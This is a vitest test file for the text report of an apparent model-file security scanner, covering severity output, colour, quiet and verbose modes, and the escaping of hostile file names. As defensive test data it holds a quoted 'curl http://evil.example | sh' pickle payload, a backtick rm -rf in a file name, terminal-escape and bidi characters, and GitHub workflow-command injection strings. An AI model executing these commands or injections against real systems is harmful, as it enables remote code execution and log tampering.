import { describe, expect, it } from 'vitest';
import { stripAnsi } from '../../src/report/escape.js';
import { renderText } from '../../src/report/text.js';
import { evilReport, fileResult, gateFor, report, richReport } from './fixtures.js';

describe('renderText', () => {
  const rich = richReport();
  const gate = gateFor(rich, 'high');

  it('prints one block per file, most severe file first, then coverage and the verdict', () => {
    expect(renderText(rich, gate, { color: false })).toBe(
      [
        'models/model.pt',
        '  CRITICAL  pickle/code-execution  pickle  in archive/data.pkl  at byte 123',
        '            Loading this file runs a shell command chosen by the file.',
        "            would run: os.system('curl http://evil.example | sh')",
        '  HIGH      pickle/system-access  pickle  in archive/data.pkl  at byte 456',
        '            Loading this file opens a file on the machine.',
        '            would run: builtins.open',
        '',
        'models/classifier.pkl',
        '  MEDIUM    pickle/unknown-import  pickle  at byte 2',
        '            The pickle imports mylib.Model, which is not a known-safe model class.',
        '            would run: mylib.Model',
        '',
        'weights/broken.pkl',
        '  MEDIUM    scan/incomplete  pickle  at byte 99',
        '            The pickle stream is truncated at byte 99, so the rest was not checked.',
        '',
        'weights/locked.pkl',
        '  MEDIUM    scan/read-error  file',
        '            The file could not be read: EACCES.',
        '',
        'weights/mystery.bin',
        '  LOW       scan/unsupported-format  unknown',
        '            Not scanned: no scanner recognised its content, so it is not known to be safe.',
        '',
        'Not fully scanned (not known to be safe):',
        '  weights/broken.pkl  (incomplete) pickle stream truncated at byte 99',
        '  weights/mystery.bin  (unsupported) no scanner recognised its content',
        '  weights/locked.pkl  (error) cannot read: EACCES',
        '',
        'Could not scan:',
        '  missing/model.pt: no such file or directory',
        '',
        'Skipped:',
        '  models/link.pkl: symlink points outside the root',
        '',
        '4 files scanned, 1 critical, 1 high, 3 medium, 1 low, 3 not fully scanned, 1 input error — FAILED (threshold: high)',
        '',
      ].join('\n'),
    );
  });

  it('colours severity labels and the verdict only when asked', () => {
    const plain = renderText(rich, gate, { color: false });
    const coloured = renderText(rich, gate, { color: true });
    expect(plain).not.toContain('\u001b');
    expect(coloured).toContain('\u001b[1m\u001b[31mCRITICAL\u001b[0m');
    expect(coloured).toContain('\u001b[33mMEDIUM  \u001b[0m');
    expect(coloured).toContain('\u001b[1m\u001b[31mFAILED\u001b[0m');
    expect(stripAnsi(coloured)).toBe(plain);
  });

  it('quiet: only blocking findings and the final line', () => {
    expect(renderText(rich, gate, { color: false, quiet: true })).toBe(
      [
        'models/model.pt',
        '  CRITICAL  pickle/code-execution  pickle  in archive/data.pkl  at byte 123',
        '            Loading this file runs a shell command chosen by the file.',
        "            would run: os.system('curl http://evil.example | sh')",
        '  HIGH      pickle/system-access  pickle  in archive/data.pkl  at byte 456',
        '            Loading this file opens a file on the machine.',
        '            would run: builtins.open',
        '',
        '4 files scanned, 1 critical, 1 high, 3 medium, 1 low, 3 not fully scanned, 1 input error — FAILED (threshold: high)',
        '',
      ].join('\n'),
    );
  });

  it('verbose: also lists clean files', () => {
    expect(renderText(rich, gate, { color: false, verbose: true })).toContain('No findings:\n  weights/clean.pkl  (pickle, 1234 bytes, 3 ms)');
    expect(renderText(rich, gate, { color: false })).not.toContain('No findings:');
  });

  it('says plainly when there was nothing to scan', () => {
    const empty = report([]);
    expect(renderText(empty, gateFor(empty), { color: false })).toBe(
      'No model files found to scan under /work/repo.\n\n0 files scanned, 0 critical, 0 high, 0 medium, 0 low — PASSED (threshold: high)\n',
    );
  });

  it('says there was nothing to scan when no file was a model', () => {
    const notes = report([fileResult('notes.md', [], { status: 'ignored', formats: [] })]);
    expect(renderText(notes, gateFor(notes), { color: false })).toBe(
      'No model files found to scan under /work/repo.\n\n0 files scanned, 0 critical, 0 high, 0 medium, 0 low — PASSED (threshold: high)\n',
    );
  });

  it('passes a clean scan', () => {
    const clean = report([fileResult('a.pkl')]);
    expect(renderText(clean, gateFor(clean), { color: false })).toBe('1 file scanned, 0 critical, 0 high, 0 medium, 0 low — PASSED (threshold: high)\n');
  });

  describe('with hostile names', () => {
    const evil = evilReport();
    const out = renderText(evil, gateFor(evil), { color: true });

    it('emits no control characters except its own colour codes and newlines', () => {
      expect(stripAnsi(out)).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
      // The only escape sequences left are our SGR colours.
      expect(out.match(/\u001b[^m]*m/g)!.every((seq) => /^\u001b\[[0-9;]*m$/.test(seq))).toBe(true);
      expect(out).toContain('models/\\x1b[31mred\\x1b[0m.pkl');
      expect(out).toContain('models/evil\\u202egnp.pkl');
      expect(out).toContain('models/`rm -rf`\\n## Heading.pt');
    });

    it('cannot inject GitHub workflow commands into the log', () => {
      const commands = report([
        fileResult('::error file=x::pwned.pkl', [], { status: 'incomplete', reasons: ['::add-mask::secret'] }),
        fileResult('models/##[error]pwned.pkl', [], { status: 'error', reasons: ['x ##[warning]y'] }),
      ]);
      const log = renderText(commands, gateFor(commands), { color: false });
      for (const line of log.split('\n')) {
        expect(line.trimStart().startsWith('::')).toBe(false);
        expect(line).not.toContain('##[');
      }
      expect(log).toContain('\\x3a:error file=x::pwned.pkl');
      expect(log).toContain('models/\\x23#[error]pwned.pkl');
    });
  });
});
